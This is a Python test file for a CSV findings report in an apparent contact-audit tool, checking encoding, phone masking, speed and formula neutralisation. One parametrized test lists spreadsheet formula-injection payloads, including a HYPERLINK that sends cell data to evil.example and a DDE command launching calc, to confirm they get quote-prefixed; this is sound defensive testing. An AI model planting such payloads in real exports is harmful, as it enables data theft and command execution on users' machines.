import csv
import io
import time

import pandas as pd
import pytest

from contactaudit.models import Related
from contactaudit.reporters import csv_report
from contract_helpers import FINDING_FIELDS
from reporting_samples import assert_golden, findings_frame, hostile_row, sample_report

HEADER = list(FINDING_FIELDS)


def parse(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_findings_csv_matches_golden_file():
    assert_golden("findings.csv", csv_report.render(sample_report()))


def test_csv_is_utf8_with_bom_crlf_and_the_contract_header():
    data = csv_report.render(sample_report())
    assert data.startswith(b'\xef\xbb\xbf"code","severity",')
    assert data.count(b"\r\n") == 1 + len(sample_report().findings)
    rows = parse(data)
    assert list(rows[0]) == HEADER
    assert len(rows) == 9


def test_csv_keeps_chinese_text_intact():
    rows = parse(csv_report.render(sample_report()))
    assert rows[1]["message"] == "联系人号码是另一位借款人的手机号"
    assert "张三 | 李四?" in rows[6]["message"]


def test_related_is_flattened_with_and_without_record_id():
    rows = parse(csv_report.render(sample_report()))
    by_row = {(r["code"], r["row"]): r for r in rows}
    assert by_row[("phone-shared-by-borrowers", "4")]["related"] == "borrowers:6:B005;contacts:7"
    assert by_row[("contact-is-other-borrower", "3")]["related"] == "borrowers:5:B004"
    assert by_row[("phone-reassigned", "2")]["related"] == ""


def test_missing_values_are_empty_cells():
    rows = parse(csv_report.render(sample_report()))
    name_conflict = next(r for r in rows if r["code"] == "name-conflict")
    assert name_conflict["record_id"] == ""
    assert next(r for r in rows if r["code"] == "phone-invalid")["phone_key"] == ""


def test_status_column_carries_new_and_persisting():
    rows = parse(csv_report.render(sample_report()))
    assert [r["status"] for r in rows[:3]] == ["new", "persisting", "persisting"]


def test_real_numbers_appear_only_with_reveal_phones():
    hidden = parse(csv_report.render(sample_report()))
    assert "phone_e164" not in hidden[0] and "phone_raw" not in hidden[0]
    shown = parse(csv_report.render(sample_report(), reveal_phones=True))
    assert list(shown[0])[-2:] == ["phone_e164", "phone_raw"]
    # Phone-like values are formula-neutralised like every other cell.
    assert shown[0]["phone_e164"] == "'+8613812345678"
    assert shown[0]["phone_raw"] == "138 1234 5678"
    assert shown[4]["phone_raw"] == "'+86 150-1234-5678"
    assert shown[2]["phone_e164"] == ""


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-3+4",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_formula_cells_are_prefixed_with_a_quote(hostile):
    report = sample_report([hostile_row(hostile, hostile)])
    row = parse(csv_report.render(report))[0]
    for column in ("record_id", "borrower_id", "message"):
        assert row[column] == "'" + hostile, column
    # related starts with the source name, so it needs no prefix
    assert row["related"] == f"contacts:21:{hostile}"
    # the masked "-" placeholder is itself formula-like
    assert row["phone_masked"] == "'-"


def test_safe_cells_are_not_prefixed():
    rows = parse(csv_report.render(sample_report()))
    assert rows[0]["record_id"] == "B001"
    assert rows[0]["phone_masked"] == "138****5678"
    assert rows[7]["phone_masked"] == "'+44******0123"
    assert all(not r["message"].startswith("'") for r in rows)


def test_empty_report_is_header_only():
    report = sample_report([])
    data = csv_report.render(report)
    assert data == ("\ufeff" + ",".join(f'"{h}"' for h in HEADER) + "\r\n").encode()


def test_many_findings_render_quickly():
    base = findings_frame()
    frame = pd.concat([base] * 20_000, ignore_index=True)  # 180,000 findings
    frame["related"] = [(Related("borrowers", 9, "B9"),)] * len(frame)
    report = sample_report(findings=frame)
    start = time.perf_counter()
    data = csv_report.render(report, reveal_phones=True)
    elapsed = time.perf_counter() - start
    assert data.count(b"\r\n") == len(frame) + 1
    # About 1.5 s on one shared core; a per-cell Python path would be several times that.
    assert elapsed < 8, elapsed


@pytest.mark.parametrize("reveal", [False, True])
def test_chunked_rendering_gives_the_same_bytes(monkeypatch, reveal):
    report = sample_report(reveal_phones=reveal)
    whole = csv_report.render(report, reveal_phones=reveal)
    monkeypatch.setattr(csv_report, "CHUNK_ROWS", 2)
    pieces = list(csv_report.render_byte_chunks(report, reveal_phones=reveal))
    assert len(pieces) > 4
    assert b"".join(pieces) == whole
    assert pieces[0].startswith(b"\xef\xbb\xbf")
